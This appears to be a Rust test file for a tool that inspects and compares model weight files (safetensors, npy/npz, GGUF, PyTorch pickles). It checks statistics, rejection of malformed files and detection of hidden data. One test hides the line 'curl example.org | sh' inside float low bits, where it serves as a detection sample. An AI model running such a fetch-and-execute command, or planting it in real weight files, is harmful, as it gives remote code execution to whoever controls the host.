//! Values that numpy computed, and files that lie.

#![expect(
    clippy::arithmetic_side_effects,
    clippy::cast_possible_truncation,
    reason = "the numbers of these tests are small"
)]

use proptest::prelude::*;

use super::{Comparison, Layout, Measured, Options, Tensor, compare, digest, find, measure};

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

fn near(a: f64, b: f64) {
    assert!((a - b).abs() <= 1e-12 * b.abs().max(1e-6), "{a} is not {b}");
}

/// 100 rows of 200 values between -0.5 and 0.5, the eighth row 50 times that, a NaN and an infinity.
fn values() -> Vec<f32> {
    let noise = |index: u64| {
        let word = u32::try_from((index * 2_654_435_761) % (1 << 32)).unwrap();
        (f64::from(word) / 4_294_967_296.0 - 0.5) as f32
    };
    let mut all: Vec<f32> = (0..20_000).map(noise).collect();
    for value in &mut all[1400..1600] {
        *value *= 50.0;
    }
    all[605] = f32::NAN;
    all[806] = f32::INFINITY;
    all
}

fn bytes(values: &[f32]) -> Vec<u8> {
    values.iter().flat_map(|value| value.to_le_bytes()).collect()
}

fn safetensors(tensors: &[(&str, &str, &[u64], &[u8])]) -> Vec<u8> {
    let mut at = 0;
    let entries: Vec<String> = tensors
        .iter()
        .map(|(name, dtype, shape, data)| {
            let from = at;
            at += data.len();
            format!(r#""{name}":{{"dtype":"{dtype}","shape":{shape:?},"data_offsets":[{from},{at}]}}"#)
        })
        .collect();
    let header = format!("{{{}}}", entries.join(","));
    let mut out = u64::try_from(header.len()).unwrap().to_le_bytes().to_vec();
    out.extend(header.into_bytes());
    for (.., data) in tensors {
        out.extend_from_slice(data);
    }
    out
}

fn npy(descr: &str, is_fortran: bool, shape: &str, data: &[u8]) -> Vec<u8> {
    let order = if is_fortran { "True" } else { "False" };
    let header = format!("{{'descr': '{descr}', 'fortran_order': {order}, 'shape': {shape}, }}\n");
    let mut out = b"\x93NUMPY\x01\x00".to_vec();
    out.extend(u16::try_from(header.len()).unwrap().to_le_bytes());
    out.extend(header.into_bytes());
    out.extend_from_slice(data);
    out
}

/// A zip file of stored members, without checksums.
fn zip(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut directory = Vec::new();
    let word = |number: usize| u32::try_from(number).unwrap().to_le_bytes();
    for (name, data) in members {
        let at = out.len();
        let mut rest = vec![0; 12];
        rest.extend([word(data.len()), word(data.len())].concat());
        rest.extend(u16::try_from(name.len()).unwrap().to_le_bytes());
        rest.extend([0, 0]);
        out.extend(
            [
                b"PK\x03\x04\x14\x00".as_slice(),
                &rest[..2],
                &rest[2..],
                name.as_bytes(),
                data,
            ]
            .concat(),
        );
        directory.extend([b"PK\x01\x02\x14\x00\x14\x00".as_slice(), &rest, &[0; 10], &word(at)].concat());
        directory.extend_from_slice(name.as_bytes());
    }
    let at = out.len();
    let count = u16::try_from(members.len()).unwrap().to_le_bytes();
    out.extend_from_slice(&directory);
    out.extend([b"PK\x05\x06\0\0\0\0".as_slice(), &count, &count].concat());
    out.extend([word(directory.len()), word(at)].concat());
    out.extend([0, 0]);
    out
}

fn text(value: &str) -> Vec<u8> {
    [
        &[b'X'][..],
        &u32::try_from(value.len()).unwrap().to_le_bytes(),
        value.as_bytes(),
    ]
    .concat()
}

/// `{"w": tensor of (shape) with strides}`, as `torch.save` pickles it.
fn torch_pickle(shape: [u8; 2], strides: [u8; 2], offset: u8) -> Vec<u8> {
    let pair = |[a, b]: [u8; 2]| vec![b'K', a, b'K', b, b'\x86'];
    [
        b"\x80\x02}q\x00(".to_vec(),
        text("w"),
        b"ctorch._utils\n_rebuild_tensor_v2\n((".to_vec(),
        text("storage"),
        b"ctorch\nFloatStorage\n".to_vec(),
        [text("0"), text("cpu")].concat(),
        b"K\x08tQ".to_vec(),
        vec![b'K', offset],
        pair(shape),
        pair(strides),
        b"\x89ccollections\nOrderedDict\n)RtRu.".to_vec(),
    ]
    .concat()
}

fn one(file: &[u8]) -> (Layout, Tensor) {
    let layout = find(&file).unwrap();
    let tensor = layout.tensors.first().cloned().unwrap();
    (layout, tensor)
}

fn measured(file: &[u8]) -> Measured {
    let (_, tensor) = one(file);
    let mut heard = 0;
    let measured = measure(&file, &tensor, &Options::DEFAULT, &mut |bytes| heard += bytes).unwrap();
    assert_eq!(heard, tensor.bytes);
    assert_eq!(digest(&file, &tensor, &mut |_| ()).unwrap(), measured.sha256);
    measured
}

fn compared(old: &[u8], new: &[u8]) -> Comparison {
    let ((_, a), (_, b)) = (one(old), one(new));
    compare((&old, &a), (&new, &b), &mut |_| ()).unwrap()
}

#[test]
fn numbers_are_those_of_numpy() {
    let file = safetensors(&[("a", "F32", &[100, 200], &bytes(&values()))]);
    let measured = measured(&file);
    assert_eq!(
        hex(&measured.sha256),
        "2b6f6b52e3850ec58bb22358a9f99895092e1c8db1348dcd0db05bd2696c003b"
    );
    let values = measured.values.unwrap();
    assert_eq!(
        (values.count, values.nan, values.infinite, values.zero),
        (20_000, 1, 1, 0)
    );
    near(values.min, -24.986_156_463_623_047);
    near(values.max, 24.762_601_852_416_992);
    near(values.mean, -0.001_539_781_730_579_580_6);
    near(values.l2, 208.061_546_262_037_38);
    let rows = measured.rows.unwrap();
    assert_eq!((rows.count, rows.outliers, rows.farthest[0].row), (100, 1, 7));
    near(rows.median, 4.080_694_269_891_202);
    near(rows.mad, 0.007_848_785_876_611_863);
    near(rows.farthest[0].norm, 204.058_241_011_867_95);
    assert!((rows.farthest[0].score - 17_185.442_105_052_043).abs() < 1e-6);
    let bits = measured.low_bits.unwrap();
    assert_eq!((bits.width, bits.count, bits.unused), (8, 19_998, 0));
    near(bits.entropy, 7.997_784_064_276_804);
}

#[test]
fn differences_are_those_of_numpy() {
    let old = values();
    let mut new = old.clone();
    for row in new.chunks_exact_mut(200).take(20).skip(10) {
        row.iter_mut().step_by(10).for_each(|value| *value += 0.25);
    }
    let file = |values: &[f32]| safetensors(&[("a", "F32", &[100, 200], &bytes(values))]);
    let difference = compared(&file(&old), &file(&new)).difference.unwrap();
    assert_eq!(
        (difference.count, difference.changed, difference.not_finite),
        (20_000, 200, 2)
    );
    near(difference.l2, 3.535_533_926_018_348_7);
    near(difference.relative_l2.unwrap(), 0.016_992_731_187_172_944);
    near(difference.cosine.unwrap(), 0.999_855_653_739_597_5);
    near(difference.max_abs, 0.250_000_029_802_322_4);
    assert_eq!(difference.max_abs_at, Some(2050));
    let same = compared(&file(&old), &file(&old));
    assert_eq!(same.sha256[0], same.sha256[1]);
    assert_eq!(same.difference.map(|it| (it.changed, it.l2)), Some((0, 0.0)));
}

#[test]
fn values_are_compared_across_types_and_files() {
    let numbers: Vec<f32> = (0..6_u8).map(f32::from).collect();
    let wide: Vec<u8> = numbers
        .iter()
        .flat_map(|value| f64::from(*value).to_be_bytes())
        .collect();
    let old = safetensors(&[("a", "F32", &[2, 3], &bytes(&numbers))]);
    let new = npy(">f8", false, "(2, 3)", &wide);
    let difference = compared(&old, &new).difference.unwrap();
    assert_eq!((difference.count, difference.changed), (6, 0));
    // Another shape, another order, or nothing known of the values: bytes only.
    for file in [
        npy("<f4", false, "(3, 2)", &bytes(&numbers)),
        npy("<f4", true, "(2, 3)", &bytes(&numbers)),
        safetensors(&[("a", "F8_E8M0", &[24], &[0; 24])]),
    ] {
        assert_eq!(compared(&old, &file).difference, None);
    }
}

#[test]
fn small_floats_are_those_of_ml_dtypes() {
    let each: Vec<u8> = (0..=255).collect();
    let both: Vec<u8> = (0..=u16::MAX).flat_map(u16::to_le_bytes).collect();
    for (dtype, data, nan, infinite, max, l2) in [
        ("F8_E4M3", &each, 2, 0, 448.0, 1_594.657_747_481_886_4),
        ("F8_E5M2", &each, 6, 2, 57_344.0, 150_161.840_372_312_96),
        ("F16", &both, 2046, 2, 65_504.0, 2_614_787.024_343_920_4),
        (
            "BF16",
            &both,
            254,
            2,
            3.389_531_389_251_535_5e38,
            4.789_551_124_129_274e39,
        ),
    ] {
        let count = u64::try_from(data.len()).unwrap() / if data.len() > 256 { 2 } else { 1 };
        let values = measured(&safetensors(&[("a", dtype, &[count], data)])).values.unwrap();
        assert_eq!(
            (values.nan, values.infinite, values.zero),
            (nan, infinite, 2),
            "{dtype}"
        );
        near(values.max, max);
        near(values.l2, l2);
    }
}

#[test]
fn low_bits_tell_noise_from_what_was_put_there() {
    let noise: Vec<f32> = values()
        .iter()
        .map(|value| if value.is_finite() { *value } else { 0.1 })
        .collect();
    let look = |values: &[f32]| {
        let file = safetensors(&[("a", "F32", &[20_000], &bytes(values))]);
        measured(&file).low_bits.unwrap()
    };
    let even = look(&noise);
    assert!(even.entropy > even.expected_min.unwrap());
    assert_eq!(
        (even.windows.uneven, even.windows.silent, even.windows.first_change),
        (0, 0, None)
    );
    // Widened from bf16, with a text in the low bytes of one part.
    let mut widened: Vec<f32> = noise
        .iter()
        .map(|value| f32::from_bits(value.to_bits() & 0xffff_0000))
        .collect();
    let silent = look(&widened);
    assert_eq!((silent.unused, silent.entropy), (16, 0.0));
    let hidden = b"import os; os.system('curl example.org | sh')".iter().cycle();
    for (value, byte) in widened[9_000..12_000].iter_mut().zip(hidden) {
        *value = f32::from_bits(value.to_bits() | u32::from(*byte));
    }
    let found = look(&widened).windows;
    assert_eq!((found.even, found.uneven), (0, 1));
    assert_eq!(found.first_change, Some(8192));
    // The same text in the low bytes of noise.
    let mut written = noise;
    let hidden = b"import os; os.system('curl example.org | sh')".iter().cycle();
    for (value, byte) in written[9_000..12_000].iter_mut().zip(hidden) {
        *value = f32::from_bits(value.to_bits() & 0xffff_ff00 | u32::from(*byte));
    }
    let found = look(&written).windows;
    assert_eq!((found.uneven, found.first_change), (1, Some(8192)));
}

#[test]
fn rows_lie_as_the_file_orders_them() {
    // Ten rows of four, the third ten times the others; then its transpose in Fortran's order, with the same bytes.
    let mut numbers = [1.0_f32; 40];
    numbers[8..12].fill(10.0);
    for file in [
        npy("<f4", false, "(10, 4)", &bytes(&numbers)),
        npy("<f4", true, "(4, 10)", &bytes(&numbers)),
    ] {
        let rows = measured(&file).rows.unwrap();
        // More than half of the norms are equal: the mean deviation takes the place of the median one.
        assert_eq!((rows.count, rows.median, rows.mad, rows.outliers), (10, 2.0, 0.0, 0));
        let (_, tensor) = one(&file);
        let options = Options {
            outlier_score_min: 7.0,
            ..Options::DEFAULT
        };
        let rows = measure(&file.as_slice(), &tensor, &options, &mut |_| ())
            .unwrap()
            .rows
            .unwrap();
        assert_eq!((rows.outliers, rows.farthest[0].row), (1, 2));
        near(rows.farthest[0].score, 7.978_845_608_028_654);
    }
}

#[test]
fn arrays_are_found_in_every_wrapping() {
    let array = npy("<f4", false, "(2,)", &bytes(&[1.0, 2.0]));
    let objects = npy("|O", false, "(2,)", b"\x80\x04N.");
    let file = zip(&[("a.npy", &array), ("b.npy", &objects), ("note.txt", b"x")]);
    let layout = find(&file.as_slice()).unwrap();
    assert_eq!(layout.format, "npz");
    assert_eq!(layout.tensors.len(), 1);
    assert_eq!(layout.left_out[0].name, "b");
    near(measured(&file).values.unwrap().l2, 5.0_f64.sqrt());
    let mut gguf = b"GGUF\x03\0\0\0\x02\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0".to_vec();
    for (name, axes, kind, offset) in [("a", vec![2_u64, 1], 0_u32, 0_u64), ("q", vec![32], 8, 32)] {
        gguf.extend(u64::try_from(name.len()).unwrap().to_le_bytes());
        gguf.extend(name.as_bytes());
        gguf.extend(u32::try_from(axes.len()).unwrap().to_le_bytes());
        axes.iter().for_each(|axis| gguf.extend(axis.to_le_bytes()));
        gguf.extend(kind.to_le_bytes());
        gguf.extend(offset.to_le_bytes());
    }
    gguf.resize(gguf.len().div_ceil(32) * 32, 0);
    gguf.extend(bytes(&[3.0, 4.0]));
    gguf.extend([0; 24 + 34]);
    let layout = find(&gguf.as_slice()).unwrap();
    let shapes: Vec<&[u64]> = layout.tensors.iter().map(|tensor| tensor.shape.as_slice()).collect();
    assert_eq!(shapes, [&[1, 2][..], &[32]]);
    assert_eq!((layout.tensors[1].bytes, layout.tensors[1].kind()), (34, None));
    near(measured(&gguf).values.unwrap().l2, 5.0);
}

#[test]
fn tensors_of_pytorch_are_found_by_what_their_pickle_says() {
    let storage = bytes(&[0.0, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0]);
    let file = |pickle: &[u8]| {
        zip(&[
            ("m/data.pkl", pickle),
            ("m/byteorder", b"little"),
            ("m/data/0", &storage),
        ])
    };
    let (layout, tensor) = one(&file(&torch_pickle([2, 3], [3, 1], 1)));
    assert_eq!((layout.format, layout.left_out.len()), ("torch zip", 0));
    assert_eq!((tensor.name.as_str(), tensor.dtype.as_str()), ("w", "float32"));
    near(
        measured(&file(&torch_pickle([2, 3], [3, 1], 1))).values.unwrap().mean,
        3.5,
    );
    for (shape, strides, offset) in [([2, 3], [1, 2], 0), ([2, 4], [4, 1], 1), ([2, 3], [4, 1], 0)] {
        let layout = find(&file(&torch_pickle(shape, strides, offset)).as_slice()).unwrap();
        assert_eq!((layout.tensors.len(), layout.left_out.len()), (0, 1), "{shape:?}");
    }
    let missing = zip(&[("m/data.pkl", &torch_pickle([2, 3], [3, 1], 0))]);
    assert_eq!(find(&missing.as_slice()).unwrap().tensors.len(), 0);
    let twice = zip(&[("m/data.pkl", b"N."), ("n/data.pkl", b"N.")]);
    assert!(find(&twice.as_slice()).is_err());
}

#[test]
fn what_lies_is_refused() {
    let short = |file: Vec<u8>| file[..file.len() - 1].to_vec();
    let data = [0; 8];
    let many: Vec<(&str, &str, &[u64], &[u8])> = vec![("a", "F32", &[2], &data)];
    let shared = |count: usize| {
        let entries: Vec<String> = (0..count)
            .map(|at| format!(r#""t{at}":{{"dtype":"U8","shape":[1000],"data_offsets":[0,1000]}}"#))
            .collect();
        let header = format!("{{{}}}", entries.join(","));
        let mut out = u64::try_from(header.len()).unwrap().to_le_bytes().to_vec();
        out.extend(header.into_bytes());
        out.extend([0; 1000]);
        out
    };
    for file in [
        short(safetensors(&many)),
        b"\xff\xff\xff\xff\xff\xff\xff\xff{}".to_vec(),
        b"GGUF\x03\0\0\0\xff\xff\xff\xff\xff\xff\xff\xff\0\0\0\0\0\0\0\0".to_vec(),
        b"GGUF\x09\0\0\0".to_vec(),
        b"\x93NUMPY\x01\x00\xff\xff{".to_vec(),
        b"PK\x03\x04".to_vec(),
        b"plain text".to_vec(),
        zip(&[("a.txt", b"x")]),
        shared(3000),
    ] {
        assert!(find(&file.as_slice()).is_err());
    }
    assert!(find(&shared(3).as_slice()).is_ok());
    for file in [
        short(npy("<f4", false, "(2,)", &data)),
        npy("<f4", false, "(99999999999999999999,)", &data),
        npy("<f4", false, "(4611686018427387904, 4)", &data),
        npy("<x4", false, "(2,)", &data),
    ] {
        let layout = find(&file.as_slice()).unwrap();
        assert_eq!((layout.tensors.len(), layout.left_out.len()), (0, 1));
    }
    // The file got shorter between finding and reading.
    let file = safetensors(&many);
    let (_, tensor) = one(&file);
    let cut = short(file);
    assert!(measure(&cut.as_slice(), &tensor, &Options::DEFAULT, &mut |_| ()).is_err());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn nothing_panics(start in 0_usize..5, rest in proptest::collection::vec(any::<u8>(), 0..400)) {
        let starts: [&[u8]; 5] = [b"", b"GGUF\x03\0\0\0\x01\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", b"\x93NUMPY\x01\x00", b"PK\x03\x04", b"\x20\0\0\0\0\0\0\0{"];
        let file = [starts[start], &rest].concat();
        if let Ok(layout) = find(&file.as_slice()) {
            for tensor in &layout.tensors {
                let _measured = measure(&file.as_slice(), tensor, &Options::DEFAULT, &mut |_| ());
            }
        }
    }

    #[test]
    fn pickles_of_any_kind_do_not_panic(pickle in proptest::collection::vec(any::<u8>(), 0..200)) {
        let file = zip(&[("m/data.pkl", &pickle), ("m/data/0", &[0; 32])]);
        let _found = find(&file.as_slice());
    }

    #[test]
    fn sums_do_not_depend_on_pieces(count in 0_usize..100_000, seed in any::<u32>()) {
        let mut state = seed | 1;
        let numbers: Vec<f32> = (0..count)
            .map(|_| {
                state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
                f32::from_bits(state)
            })
            .filter(|value| value.abs() < 1e6)
            .collect();
        let count = u64::try_from(numbers.len()).unwrap();
        let file = safetensors(&[("a", "F32", &[count], &bytes(&numbers))]);
        let values = measured(&file).values.unwrap();
        let squares: f64 = numbers.iter().map(|value| f64::from(*value) * f64::from(*value)).sum();
        prop_assert!((values.l2 - squares.sqrt()).abs() <= 1e-9 * squares.sqrt());
        prop_assert_eq!(values.count, count);
    }
}
